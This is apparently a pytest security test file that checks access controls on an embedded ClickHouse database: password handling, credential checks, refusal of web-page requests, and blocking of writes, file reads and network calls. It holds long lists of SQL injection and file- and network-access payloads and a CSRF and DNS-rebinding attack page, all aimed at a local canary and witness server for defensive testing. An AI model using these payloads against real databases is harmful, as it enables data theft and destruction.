"""Access to the embedded ClickHouse: what readers, writers and web pages can do; no statement leaves the database."""

import http.server
import stat
import threading
import urllib.parse
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import clickhouse_connect
import pytest
from clickhouse_connect.driver.client import Client
from clickhouse_connect.driver.exceptions import DatabaseError
from playwright.sync_api import sync_playwright

from headrace.deploy.clickhouse.access import (
    AccessDenied,
    ClickHouseAccount,
    account_of,
    ensure_passwords,
    refuse_web_page,
)
from headrace.deploy.clickhouse.allowed import TABLE_FUNCTIONS, WRITE_SETTINGS
from headrace.deploy.clickhouse.statements import READ_SETTINGS
from headrace.deploy.errors import StackError
from headrace.streams.clickhouse.database import READER, open_client
from tests.deploy.clickhouse.test_server import login, post
from tests.deploy.dashboard.test_pages import CHROMIUM, FLAGS, needs_chromium

CANARY = "the-canary-that-no-statement-may-read"


@pytest.fixture
def writer(clickhouse: str) -> Iterator[Client]:
    client = clickhouse_connect.get_client(**login(clickhouse))
    client.command("DROP TABLE IF EXISTS precious")
    client.command("CREATE TABLE precious (a UInt64) ENGINE = MergeTree ORDER BY a")
    client.command("INSERT INTO precious SELECT number FROM numbers(7)")
    yield client
    client.close()


def bare(url: str) -> str:
    return f"http://{url.rpartition('@')[2]}"


class Witness:
    """A web server that records its requests."""

    def __init__(self, page: str = "") -> None:
        seen = self.seen = list[str]()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            do_POST = do_GET  # noqa: N815 - http.server calls it so

            def log_message(self, *_: object) -> None:
                """Log nothing."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]

    @contextmanager
    def serving(self) -> Iterator["Witness"]:
        thread = threading.Thread(target=self._server.serve_forever)
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            thread.join()
            self._server.server_close()


def test_passwords_are_created_once_with_private_permissions_and_atomically(tmp_path: Path) -> None:
    folder = tmp_path / "secrets"
    made = ensure_passwords(folder)
    assert len(set(made.values())) == 2
    assert min(map(len, made.values())) >= 32
    assert ensure_passwords(folder) == made
    modes = {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()}
    assert (modes, stat.S_IMODE(folder.stat().st_mode)) == ({0o600}, 0o700)
    (folder / READER).chmod(0o644)
    with pytest.raises(StackError, match="chmod 600"):
        ensure_passwords(folder)
    (folder / READER).chmod(0o600)
    (folder / READER).write_text("\n")
    with pytest.raises(StackError, match="no password"):
        ensure_passwords(folder)


PASSWORDS = {ClickHouseAccount.READER: "r-secret", ClickHouseAccount.WRITER: "w-secret"}


def basic(text: str) -> dict[str, str]:
    return {"authorization": f"Basic {b64encode(text.encode()).decode()}"}


@pytest.mark.parametrize(
    ("headers", "fields", "account"),
    [
        (basic("reader:r-secret"), {}, ClickHouseAccount.READER),
        (basic("writer:w-secret"), {}, ClickHouseAccount.WRITER),
        ({"x-clickhouse-user": "writer", "x-clickhouse-key": "w-secret"}, {}, ClickHouseAccount.WRITER),
        ({"x-clickhouse-key": "r-secret"}, {"user": "reader"}, ClickHouseAccount.READER),
    ],
)
def test_a_password_identifies_its_account(
    headers: dict[str, str], fields: dict[str, str], account: ClickHouseAccount, tmp_path: Path
) -> None:
    assert account_of(headers, fields, PASSWORDS, tmp_path) is account


@pytest.mark.parametrize(
    ("headers", "fields"),
    [
        ({}, {}),
        (basic("reader:w-secret"), {}),
        (basic("writer:r-secret"), {}),
        (basic("default:"), {}),
        (basic("reader"), {}),
        (basic(":"), {}),
        (basic("reader:r-secret "), {}),
        ({"authorization": "Basic §"}, {}),
        ({"authorization": "Bearer r-secret"}, {}),
        ({"x-clickhouse-user": "reader", "x-clickhouse-key": "naïve"}, {}),
        ({}, {"user": "reader", "password": "r-secret"}),
        (basic("reader:r-secret"), {"password": "r-secret"}),
    ],
)
def test_wrong_credentials_are_refused_and_errors_do_not_repeat_passwords(
    headers: dict[str, str], fields: dict[str, str], tmp_path: Path
) -> None:
    with pytest.raises(AccessDenied) as denied:
        account_of(headers, fields, PASSWORDS, tmp_path)
    assert "secret" not in str(denied.value)


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://127.0.0.1:8123"},
        {"origin": "null"},
        {"referer": "http://evil.example/"},
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"sec-fetch-site": "same-origin"},
    ],
)
def test_requests_from_web_pages_are_detected_by_their_headers(headers: dict[str, str]) -> None:
    with pytest.raises(AccessDenied):
        refuse_web_page(headers)
    refuse_web_page({"user-agent": "curl", "sec-fetch-site": "none"})


@pytest.mark.clickhouse
def test_requests_without_a_password_are_refused(clickhouse: str, writer: Client) -> None:
    for url, body, headers in (
        (f"{bare(clickhouse)}/?query=SELECT%201", None, {}),
        (bare(clickhouse), b"SELECT 1", {}),
        (bare(clickhouse), b"SELECT 1", {"Authorization": "Basic d3JpdGVyOndyb25n"}),
        (f"{bare(clickhouse)}/?user=writer&password={urlsplit(clickhouse).password}", b"SELECT 1", {}),
        (bare(clickhouse), b"x" * 1000, {"Content-Encoding": "zstd"}),
    ):
        status, answer, got = post(url, body, **{name.replace("-", "_"): value for name, value in headers.items()})
        assert (status, got["x-clickhouse-exception-code"]) == (403, "516"), (url, answer)
        assert "www-authenticate" not in got  # a browser would prompt for the password and store it
        assert not any("access-control" in name.lower() for name in got)
    with pytest.raises(DatabaseError, match="Authentication failed"):
        clickhouse_connect.get_client(host="127.0.0.1", port=urlsplit(clickhouse).port)


@pytest.mark.clickhouse
def test_hosts_and_origins_of_web_pages_are_refused_even_with_the_password(clickhouse: str, writer: Client) -> None:
    assert post(clickhouse, b"SELECT 1")[0] == 200
    assert post(clickhouse, b"SELECT 1", Origin="http://example.org")[0] == 403
    assert post(clickhouse, b"SELECT 1", Sec_Fetch_Site="cross-site")[0] == 403
    for host in ("example.org", "127.0.0.1.example.org", "localhost.example.org:80", "example.org:8123", ""):
        assert post(clickhouse, b"SELECT 1", Host=host)[0] == 400, host


WRITES = [
    "DROP TABLE precious",
    "SELECT 1; DROP TABLE precious",
    "SELECT 1;DROP TABLE precious;",
    "SELECT 1 /* ; */ ; DROP TABLE precious",
    "SELECT 1 -- \n; DROP TABLE precious",
    "EXPLAIN SELECT 1; DROP TABLE precious",
    "EXPLAIN INSERT INTO precious SELECT 1",
    "WITH 1 AS x SELECT x; TRUNCATE TABLE precious",
    "SELECT 1 FORMAT CSV; DROP TABLE precious",
    "SELECT 1 SETTINGS readonly = 0; DROP TABLE precious",
    "SELECT 1 SETTINGS readonly = 0",
    "SET readonly = 0",
    "SET allow_ddl = 1",
    "INSERT INTO precious SELECT 1",
    "INSERT INTO precious VALUES (1)",
    "INSERT INTO precious FORMAT CSV\n1\n",
    "/* SELECT */ INSERT INTO precious VALUES (1)",
    "ALTER TABLE precious DELETE WHERE 1",
    "DELETE FROM precious WHERE 1",
    "OPTIMIZE TABLE precious FINAL",
    "CREATE TEMPORARY TABLE x (a Int8)",
    "CREATE VIEW v AS SELECT 1",
    "KILL QUERY WHERE 1",
    "SYSTEM SHUTDOWN",
    "USE system",
    "EXECUTE AS writer SELECT 1",
    "SELECT 1 PARALLEL WITH DROP TABLE precious",
    "DROP TABLE precious PARALLEL WITH SELECT 1",
    "\ufeffDROP TABLE precious",
    "\u00a0DROP TABLE precious",
    "DROP\u2003TABLE precious",
    "(DROP TABLE precious)",
]

LEADS_OUT = [
    "SELECT * FROM file('{file}', 'LineAsString')",
    "SELECT * FROM FILE('{file}', 'LineAsString')",
    "SELECT * FROM `file`('{file}', 'LineAsString')",
    "SELECT * FROM \"file\"('{file}', 'LineAsString')",
    "SELECT * FROM “file”(‘{file}’, ‘LineAsString’)",
    "SELECT * FROM fi/**/le('{file}')",
    "SELECT * FROM file/**/('{file}', 'LineAsString')",
    "SELECT * FROM file\n--x\n($a${file}$a$, 'LineAsString')",
    "SELECT * FROM '{file}'",
    "SELECT * FROM `{file}`",
    "SELECT * FROM default.`{file}`",
    "SELECT 'a' IN `{file}`",
    "SELECT * FROM (SELECT * FROM (SELECT * FROM `{file}`))",
    "SELECT * FROM numbers(1) AS n JOIN `{file}` AS f ON 1",
    "SELECT (SELECT file('{file}'))",
    "SELECT file('{file}')",
    "SELECT FILE('{file}')",
    "SELECT arrayMap(x -> file(x), ['{file}'])",
    "SELECT * APPLY file FROM (SELECT '{file}')",
    "SELECT * APPLY (x -> file(x)) FROM (SELECT '{file}')",
    "SELECT COLUMNS('.') APPLY file FROM (SELECT '{file}' AS x)",
    "SELECT number FROM numbers(1) WHERE file('{file}') != ''",
    "SELECT number FROM numbers(1) ORDER BY file('{file}')",
    "SELECT number FROM numbers(1) GROUP BY number HAVING file('{file}') != ''",
    "SELECT sum(length(file('{file}'))) OVER () FROM numbers(1)",
    "SELECT if(1, file('{file}'), '')",
    "WITH file('{file}') AS x SELECT x",
    "WITH x AS (SELECT * FROM file('{file}', 'LineAsString')) SELECT * FROM x",
    "WITH RECURSIVE x AS (SELECT file('{file}') AS a UNION ALL SELECT a FROM x LIMIT 1) SELECT * FROM x",
    "SELECT 1 UNION ALL SELECT file('{file}')",
    "SELECT * FROM view(SELECT * FROM file('{file}', 'LineAsString'))",
    "SELECT * FROM viewIfPermitted(SELECT file('{file}') ELSE null('x String'))",
    "SELECT * FROM (EXPLAIN SELECT * FROM file('{file}', 'LineAsString'))",
    "EXPLAIN SELECT * FROM file('{file}', 'LineAsString')",
    "EXPLAIN ESTIMATE SELECT * FROM `{file}`",
    "EXPLAIN TABLE OVERRIDE mysql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "DESCRIBE TABLE file('{file}')",
    "DESCRIBE TABLE `{file}`",
    "DESCRIBE (SELECT * FROM url('http://127.0.0.1:{port}/', 'LineAsString'))",
    "EXISTS TABLE `{file}`",
    "SHOW CREATE TABLE `{file}`",
    "SHOW COLUMNS FROM `{file}`",
    "SELECT * FROM url('http://127.0.0.1:{port}/', 'LineAsString')",
    "SELECT * FROM url('http://127.0.0.1:{port}/', 'LineAsString', 'a String')",
    "SELECT * FROM urlCluster('x', 'http://127.0.0.1:{port}/', 'LineAsString')",
    "SELECT * FROM s3('http://127.0.0.1:{port}/bucket/x', 'LineAsString')",
    "SELECT * FROM gcs('http://127.0.0.1:{port}/bucket/x', 'LineAsString')",
    "SELECT * FROM azureBlobStorage('http://127.0.0.1:{port}/x', 'c', 'p')",
    "SELECT * FROM hdfs('hdfs://127.0.0.1:{port}/x', 'CSV', 'a Int8')",
    "SELECT * FROM remote('127.0.0.1:{port}', system.one)",
    "SELECT * FROM remoteSecure('127.0.0.1:{port}', system.one)",
    "SELECT * FROM cluster('default', system.processes)",
    "SELECT * FROM mysql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "SELECT * FROM postgresql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "SELECT * FROM mongodb('127.0.0.1:{port}', 'a', 'b', 'c', 'd', 'x Int8')",
    "SELECT * FROM redis('127.0.0.1:{port}', 'k', 'k String')",
    "SELECT * FROM sqlite('{file}', 't')",
    "SELECT * FROM jdbc('x', 'y', 'z')",
    "SELECT * FROM odbc('x', 'y', 'z')",
    "SELECT * FROM iceberg('http://127.0.0.1:{port}/b/x')",
    "SELECT * FROM icebergLocal('{file}')",
    "SELECT * FROM deltaLake('http://127.0.0.1:{port}/b/x')",
    "SELECT * FROM executable('cat {file}', 'LineAsString', 'a String')",
    "SELECT * FROM python('x')",
    "SELECT * FROM input('a String')",
    "SELECT * FROM filesystem('/')",
    "SELECT * FROM merge('system', 'processes')",
    "SELECT * FROM eval('SELECT 1')",
    "SELECT * FROM loop(system.processes)",
    "SELECT 1 INTO OUTFILE '{out}'",
    "SELECT 1 INTO OUTFILE '{out}' TRUNCATE FORMAT CSV",
    "SELECT 1 INTO OUTFILE '{out}' AND STDOUT",
    "(SELECT 1) INTO OUTFILE '{out}'",
    "SHOW TABLES INTO OUTFILE '{out}'",
    "EXPLAIN SELECT 1 INTO OUTFILE '{out}'",
    "SELECT 1 INTO/**/OUTFILE '{out}'",
    "SELECT * FROM system.processes",
    "SELECT * FROM `system`.`processes`",
    "SELECT * FROM system.named_collections",
    "SELECT 1 IN system.processes",
    "SELECT * FROM system.user_processes",
    "SHOW PROCESSLIST",
    "SHOW GRANTS",
    "SELECT aiGenerate('x')",
    "SELECT getClientHTTPHeader('authorization')",
    "SELECT showCertificate()",
    "SELECT hasColumnInTable('default', '{file}', 'line')",
    "SELECT addressToLine(1)",
    "SELECT catboostEvaluate('{file}', 1)",
    # Text that the engine would parse a second time.
    "SELECT b FROM values('a UInt8, b String ALIAS file(''{file}'')', (1))",
    "SELECT a, b FROM values('a UInt8, b String MATERIALIZED file(''{file}'')', (1))",
    "SELECT b FROM VALUES($x$a UInt8, b String ALIAS file('{file}')$x$, (1))",
    "SELECT b FROM values('a UInt8, b UInt8 ALIAS sleep(1)', (1))",
    "SELECT b FROM generateRandom('a UInt8, b String ALIAS file(''{file}'')') LIMIT 1",
    "SELECT b FROM generateRandom(concat('a UInt8, b String ALIAS ', 'file(''{file}'')')) LIMIT 1",
    "SELECT b FROM null('a UInt8, b String ALIAS file(''{file}'')')",
    "SELECT b FROM view(SELECT b FROM values('a UInt8, b String ALIAS file(''{file}'')', (1)))",
    "SELECT (SELECT any(b) FROM values('a UInt8, b String ALIAS file(''{file}'')', (1)))",
    "SELECT b FROM input('a UInt8, b String ALIAS file(''{file}'')')",
    "SELECT b FROM format(CSV, 'a UInt8, b String ALIAS file(''{file}'')', '1')",
    "SELECT b FROM viewIfPermitted(SELECT 1 AS a ELSE null('b String ALIAS file(''{file}'')'))",
    "SELECT b FROM loop(values('a UInt8, b String ALIAS file(''{file}'')', (1)))",
    "SELECT * FROM viewExplain('EXPLAIN', 'additional_result_filter = ''file(1)''', (SELECT 1))",
    "DESCRIBE TABLE values('a UInt8, b String ALIAS file(''{file}'')', (1))",
    "SELECT 1 SETTINGS additional_result_filter = 'file(''{file}'') = 1'",
    "SELECT 1 FROM numbers(1) SETTINGS additional_table_filters = {{'numbers': 'file(''{file}'') = 1'}}",
    "SELECT * FROM (SELECT 1 SETTINGS additional_result_filter = 'file(''{file}'') = 1')",
    "SELECT 1 SETTINGS format_schema = '{file}'",
    "SELECT 1 FORMAT Template SETTINGS format_template_resultset = '{file}'",
    "SHOW COLUMNS FROM precious WHERE file('{file}') != ''",
    "SHOW COLUMNS FROM `{file}` FROM default",
    "SELECT sleep(1)",
    "SELECT sleepEachRow(1)",
]

WRITER_LEADS_OUT = [
    "INSERT INTO FUNCTION file('{out}', 'CSV', 'a UInt64') SELECT a FROM precious",
    "INSERT INTO TABLE FUNCTION url('http://127.0.0.1:{port}/', 'CSV', 'a UInt64') SELECT a FROM precious",
    "INSERT INTO FUNCTION file('{out}', 'CSV', 'a UInt64') FORMAT CSV\n1\n",
    "INSERT INTO FUNCTION file('{out}', 'CSV', 'a UInt64') VALUES (1)",
    "INSERT INTO `{out}.csv` FORMAT CSV\n1\n",
    "INSERT INTO precious FROM INFILE '{file}' FORMAT CSV",
    "INSERT INTO precious SELECT length(file('{file}'))",
    "INSERT INTO precious VALUES (1); SELECT 1 INTO OUTFILE '{out}'",
    "CREATE TABLE leak (a String) ENGINE = URL('http://127.0.0.1:{port}/', 'CSV')",
    "CREATE TABLE leak (a String) ENGINE = File(CSV, '{file}')",
    "CREATE TABLE leak (a Int8) ENGINE = Kafka",
    "CREATE TABLE leak AS file('{file}')",
    "CREATE TABLE leak AS `{file}`",
    "CREATE TABLE leak (a String DEFAULT file('{file}')) ENGINE = Memory",
    "CREATE TABLE leak (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = 'local', path = '{out}/')",
    "CREATE VIEW leak AS SELECT file('{file}')",
    "CREATE MATERIALIZED VIEW leak ENGINE = Memory AS SELECT file('{file}') AS x FROM precious",
    "CREATE DATABASE leak ENGINE = Filesystem('/')",
    "CREATE DATABASE leak ENGINE = MySQL('127.0.0.1:{port}', 'a', 'b', 'c')",
    "CREATE DICTIONARY leak (a UInt64) PRIMARY KEY a SOURCE(HTTP(URL 'http://127.0.0.1:{port}/' FORMAT 'CSV')) "
    "LAYOUT(FLAT()) LIFETIME(1)",
    "CREATE FUNCTION leak AS x -> file(x)",
    "ATTACH TABLE leak FROM '{out}' (a Int8) ENGINE = File(CSV)",
    "BACKUP TABLE precious TO File('{out}')",
    "ALTER TABLE precious ADD COLUMN b String DEFAULT file('{file}')",
    "CREATE NAMED COLLECTION leak AS a = 1",
    "CREATE TABLE leak AS null('a UInt8, b String DEFAULT file(''{file}'')')",
    "CREATE TABLE leak AS generateRandom('a UInt8, b String DEFAULT file(''{file}'')')",
    "CREATE TABLE leak ENGINE = Memory AS SELECT b FROM values('a UInt8, b String ALIAS file(''{file}'')', (1))",
    "CREATE TABLE leak (a String) ENGINE = Buffer('', '{file}', 1, 10, 100, 10, 100, 10, 100)",
    "CREATE TABLE leak (a String, INDEX i a TYPE text(tokenizer = 'splitByNonAlpha', preprocessor = "
    "'concat(a, file(''{file}''))')) ENGINE = MergeTree ORDER BY a",
    "INSERT INTO precious SELECT 1 SETTINGS additional_result_filter = 'file(''{file}'') = 1'",
    "INSERT INTO precious SETTINGS input_format_record_errors_file_path = '{out}' FORMAT CSV\nx\n",
    "SET additional_result_filter = 'file(''{file}'') = 1'",
    "INSERT INTO precious VALUES (length(file('{file}')))",
    "INSERT INTO precious FORMAT Values (length(file('{file}')))",
    "INSERT INTO precious SETTINGS input_format_values_interpret_expressions = 1 "
    "FORMAT Values (length(file('{file}')))",
    "INSERT INTO precious SETTINGS input_format_values_interpret_expressions = DEFAULT "
    "FORMAT Values (length(file('{file}')))",
    "ALTER TABLE precious MODIFY SETTING storage_policy = 'x'",
]

SQL_IN_SETTINGS = [
    ("additional_result_filter", "file('{file}') = 1"),
    ("additional_table_filters", "{{'numbers': 'file(\\'{file}\\') = 1'}}"),
    ("parallel_replicas_custom_key", "file('{file}')"),
    ("schema_inference_hints", "a String DEFAULT file('{file}')"),
    ("column_names_for_schema_inference", "file('{file}')"),
    ("input_format_values_interpret_expressions", "1"),
    ("input_format_values_deduce_templates_of_expressions", "1"),
    ("input_format_record_errors_file_path", "{out}"),
    ("format_schema", "{file}"),
    ("format_template_row", "{file}"),
    ("format_avro_schema_registry_url", "http://127.0.0.1:{port}/"),
    ("storage_policy", "x"),
    ("max_untracked_memory", "1000000000000000"),
    ("max_temporary_data_on_disk_size_for_query", "0"),
]


@pytest.fixture
def places(tmp_path: Path) -> Iterator[dict[str, str]]:
    """A file that must not be read, a file that must not be written, and a server that must not be called."""
    (tmp_path / "secret.txt").write_text(f"{CANARY}\n")
    with Witness().serving() as witness:
        yield {"file": str(tmp_path / "secret.txt"), "out": str(tmp_path / "out"), "port": str(witness.port)}
        assert witness.seen == []
    assert [path.name for path in tmp_path.iterdir()] == ["secret.txt"]


def refused(url: str, statement: str, *, get: bool) -> bool:
    """Whether ``statement`` is answered by an error without data."""
    if get:
        status, answer, _ = post(f"{url}/?query={urllib.parse.quote(statement)}", None)
    else:
        status, answer, _ = post(url, statement.encode())
    assert CANARY.encode() not in answer
    return status >= 400 and answer.startswith(b"Code: ")


@pytest.mark.clickhouse
def test_readers_and_get_requests_cannot_write(clickhouse: str, clickhouse_reader: str, writer: Client) -> None:
    for statement in WRITES:
        assert refused(clickhouse_reader, statement, get=True), statement
        assert refused(clickhouse_reader, statement, get=False), statement
        assert refused(clickhouse, statement, get=True), statement
    for url in (clickhouse_reader, clickhouse):
        for parameters in ("readonly=0", "allow_ddl=1", "database=system", "database=%2Fetc", "dialect=prql"):
            query = urllib.parse.quote("SELECT count() FROM system.one")
            assert post(f"{url}/?{parameters}&query={query}", None)[0] >= 400, parameters
    assert writer.query("SELECT count() FROM precious").result_rows == [(7,)]


@pytest.mark.clickhouse
def test_no_statement_accesses_files_or_the_network(
    clickhouse: str, clickhouse_reader: str, writer: Client, places: dict[str, str]
) -> None:
    for statement in LEADS_OUT:
        for url, get in ((clickhouse_reader, True), (clickhouse_reader, False), (clickhouse, False)):
            assert refused(url, statement.format(**places), get=get), statement
    for statement in WRITER_LEADS_OUT:
        # Text after the data of an insert is part of the data; at worst it is a parse error.
        refused(clickhouse, statement.format(**places), get=False)
    tables = writer.query("SELECT name FROM system.tables WHERE name LIKE '%leak%'").result_rows
    databases = writer.query("SELECT name FROM system.databases WHERE name LIKE '%leak%'").result_rows
    assert (tables, databases) == ([], [])
    assert writer.query("SELECT max(a) FROM precious").result_rows == [(6,)]


@pytest.mark.clickhouse
def test_no_allowed_setting_is_sql_or_names_a_file(
    clickhouse: str, clickhouse_reader: str, writer: Client, places: dict[str, str]
) -> None:
    for name, text in SQL_IN_SETTINGS:
        query = urllib.parse.urlencode({name: text.format(**places), "query": "SELECT number FROM numbers(1)"})
        for url, body in ((clickhouse_reader, None), (clickhouse_reader, b""), (clickhouse, None), (clickhouse, b"")):
            status, answer, _ = post(f"{url}/?{query}", body)
            assert (status, b"not allowed" in answer or b"at most" in answer) == (403, True), (name, answer)


@pytest.mark.clickhouse
def test_strings_of_allowed_table_functions_and_settings_are_not_executed(
    clickhouse: str, writer: Client, places: dict[str, str]
) -> None:
    columns = f"a UInt8, b String ALIAS file('{places['file']}')"
    quoted = "'" + columns.replace("'", "''") + "'"
    for function in (*TABLE_FUNCTIONS, "SQLStandardValues", "generateSeries"):
        for arguments in (quoted, f"{quoted}, 1", f"1, {quoted}", f"1, 2, {quoted}", f"{quoted}, (1)"):
            for read in ("*", "b"):
                status, answer, _ = post(clickhouse, f"SELECT {read} FROM {function}({arguments})".encode())
                assert CANARY.encode() not in answer, (function, arguments)
                # Standard VALUES returns its strings unchanged.
                assert status >= 400 or (function, read) == ("SQLStandardValues", "*"), (function, arguments)
    listed = writer.query("SELECT name FROM system.settings WHERE type IN ('String', 'Map', 'URI')").result_rows
    offered = [name for (name,) in listed if READ_SETTINGS.match(name) or name in WRITE_SETTINGS]
    assert "insert_deduplication_token" in offered
    for name in offered:
        for text in (f"file('{places['file']}')", places["file"], "{'numbers': 'nosuch(1)'}", "nosuch(number)"):
            query = urllib.parse.urlencode({name: text, "query": "SELECT number FROM numbers(1)"})
            _, answer, _ = post(f"{clickhouse}/?{query}", b"")
            assert CANARY.encode() not in answer, name
            assert b"UNKNOWN_FUNCTION" not in answer, (name, answer)


@pytest.mark.clickhouse
def test_a_table_cannot_be_named_by_a_parameter(clickhouse_reader: str, writer: Client, places: dict[str, str]) -> None:
    for query, parameters in (
        ("SELECT * FROM {t:Identifier}", {"t": places["file"]}),
        ("SELECT * FROM system.{t:Identifier}", {"t": "processes"}),
        ("SELECT 'a' IN {t:Identifier}", {"t": places["file"]}),
        ("SELECT * FROM {d:Identifier}.{t:Identifier}", {"d": "system", "t": "processes"}),
    ):
        named = urllib.parse.urlencode(
            {f"param_{name}": value for name, value in parameters.items()} | {"query": query}
        )
        status, answer, _ = post(f"{clickhouse_reader}/?{named}", None)
        assert status >= 400, query
        assert CANARY.encode() not in answer


@pytest.mark.clickhouse
def test_everything_a_reader_needs_is_allowed(clickhouse_reader: str, writer: Client) -> None:
    client = open_client(clickhouse_reader)
    for statement, rows in (
        ("SELECT count() FROM precious", [(7,)]),
        ("WITH big AS (SELECT a FROM precious WHERE a > 3) SELECT sum(a) FROM big", [(15,)]),
        ("SELECT a FROM precious WHERE a IN (SELECT number FROM numbers(2)) ORDER BY a", [(0,), (1,)]),
        ("SELECT sumIf(a, a > 1), quantileExact(0.5)(a) FROM precious", [(20, 3)]),
        ("SELECT arrayMap(x -> x + 1, [1, 2])", [([2, 3],)]),
        ("SELECT engine FROM system.tables WHERE name = 'precious'", [("MergeTree",)]),
        ("EXISTS TABLE precious", [(1,)]),
        ("SHOW TABLES LIKE 'precious'", [("precious",)]),
        ("SELECT {a:UInt8} + 1", [(42,)]),
        ("SELECT 'file(', 'a/b' AS `x/y; --`, 'INTO OUTFILE'", [("file(", "a/b", "INTO OUTFILE")]),
        ("SELECT formatReadableSize(1024), version() != ''", [("1.00 KiB", True)]),
        ("SELECT * FROM (VALUES (1, 'x'), (2, 'y'))", [(1, "x"), (2, "y")]),
    ):
        assert client.query(statement, parameters={"a": 41}).result_rows == rows, statement
    assert client.query("DESCRIBE TABLE precious").result_rows[0][:2] == ("a", "UInt64")
    for shown in ("precious", "default.precious", "precious FROM default", "default.`precious` LIKE 'a%'"):
        assert client.query(f"SHOW COLUMNS FROM {shown}").result_rows[0][:2] == ("a", "UInt64"), shown
        assert client.query(f"SHOW FULL COLUMNS FROM {shown}").result_rows[0][:2] == ("a", "UInt64"), shown
    assert client.query("SHOW COLUMNS FROM default.precious WHERE field = 'nosuch' LIMIT 3").result_rows == []
    assert client.query("SHOW INDEXES FROM default.precious").result_rows[0][0] == "precious"
    assert "MergeTree" in str(client.command("SHOW CREATE TABLE precious"))
    assert "ReadFromMergeTree" in str(client.query("EXPLAIN SELECT * FROM precious").result_rows)
    assert client.query_arrow("SELECT a FROM precious").num_rows == 7
    client.close()
    status, answer, _ = post(f"{clickhouse_reader}/?max_threads=1&query=SELECT%20getSetting('max_threads')", None)
    assert (status, answer) == (200, b"1\n")
    status, answer, _ = post(f"{clickhouse_reader}/?max_memory_usage=0&query=SELECT%201", None)
    assert status == 403, answer
    assert post(f"{clickhouse_reader}/?output_format_schema=/tmp/x&query=SELECT%201", None)[0] == 403


PAGE = """
<title>trying</title>
<img src="http://127.0.0.1:{port}/?query=DROP%20TABLE%20precious">
<img src="http://reader:x@127.0.0.1:{port}/?query=SELECT%201">
<script src="http://127.0.0.1:{port}/?query=SELECT%201"></script>
<link rel="stylesheet" href="http://localhost:{port}/?query=SELECT%201">
<iframe src="http://127.0.0.1:{port}/?query=SELECT%201"></iframe>
<iframe name="hidden"></iframe>
<form id="form" target="hidden" method="post" enctype="text/plain" action="http://127.0.0.1:{port}/">
  <input name="DROP TABLE precious -- " value="x"></form>
<form id="multi" target="hidden" method="post" enctype="multipart/form-data" action="http://127.0.0.1:{port}/">
  <input name="query" value="DROP TABLE precious"></form>
<script>
window.responses = [];
async function attempt(name, address, options) {{
  try {{
    const answer = await fetch(address, options);
    window.responses.push([name, answer.type, answer.status, answer.type === "opaque" ? "" : await answer.text()]);
  }} catch (error) {{ window.responses.push([name, "error", 0, String(error)]); }}
}}
(async () => {{
  const front = "http://127.0.0.1:{port}/", drop = "DROP TABLE precious";
  document.getElementById("form").submit();
  document.getElementById("multi").submit();
  await attempt("get", front + "?query=SELECT%201");
  await attempt("named", "http://localhost:{port}/?query=SELECT%201");
  await attempt("no-cors", front, {{method: "POST", mode: "no-cors", body: drop}});
  await attempt("simple", front, {{method: "POST", body: drop}});
  await attempt("credentials", front, {{method: "POST", mode: "no-cors", credentials: "include", body: drop}});
  await attempt("authorised", front, {{method: "POST", headers: {{Authorization: "Basic {account}"}}, body: drop}});
  await attempt("keepalive", front, {{method: "POST", mode: "no-cors", keepalive: true, body: drop}});
  navigator.sendBeacon(front, drop);
  await attempt("rebound", "http://rebound.test:{port}/?query=SELECT%201");
  document.title = "tried";
}})();
</script>
"""


@pytest.mark.browser
@pytest.mark.clickhouse
@needs_chromium
def test_a_web_page_of_another_site_cannot_read_or_change_anything(clickhouse: str, writer: Client) -> None:
    parts = urlsplit(clickhouse)
    # Even a page that knew the password could not use it: the browser's preflight request is refused.
    account = b64encode(f"{parts.username}:{parts.password}".encode()).decode()
    page = Witness(PAGE.format(port=parts.port, account=account))
    with page.serving(), sync_playwright() as playwright:
        # The page's host name is not loopback's, and another name is rebound to the server's address.
        names = "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1"
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*FLAGS, names])
        tab = browser.new_page()
        answers: list[tuple[str, int]] = []
        tab.on("response", lambda response: answers.append((response.url, response.status)))
        tab.goto(f"http://evil.test:{page.port}/")
        tab.wait_for_function("document.title === 'tried'", timeout=30_000)
        responses = tab.evaluate("window.responses")
        # For the browser, the page of a rebound name has the same origin as the server.
        rebound = tab.goto(f"http://rebound.test:{parts.port}/?query=SELECT%201")
        assert rebound is not None
        assert rebound.status == 400
        typed = tab.goto(f"http://127.0.0.1:{parts.port}/?query=SELECT%201")
        assert typed is not None
        assert typed.status == 403
        browser.close()
    assert {name for name, *_ in responses} >= {"get", "named", "no-cors", "simple", "authorised", "rebound"}
    assert all(kind in ("error", "opaque") for _, kind, *_ in responses), responses
    reached = [(url, status) for url, status in answers if f":{parts.port}/" in url]
    assert reached
    assert all(status >= 400 for _, status in reached), reached
    assert writer.query("SELECT count() FROM precious").result_rows == [(7,)]


@pytest.mark.clickhouse
def test_no_response_repeats_a_password(clickhouse: str, clickhouse_reader: str, writer: Client) -> None:
    for url in (clickhouse, clickhouse_reader):
        password = urlsplit(url).password
        assert password is not None
        for body in (b"SELECT nosuch", b"SELEC", b"DROP TABLE nosuch.x", f"SELECT '{password}".encode()[:-1]):
            _, answer, headers = post(url, body)
            assert password.encode() not in answer
            assert password not in str(headers)
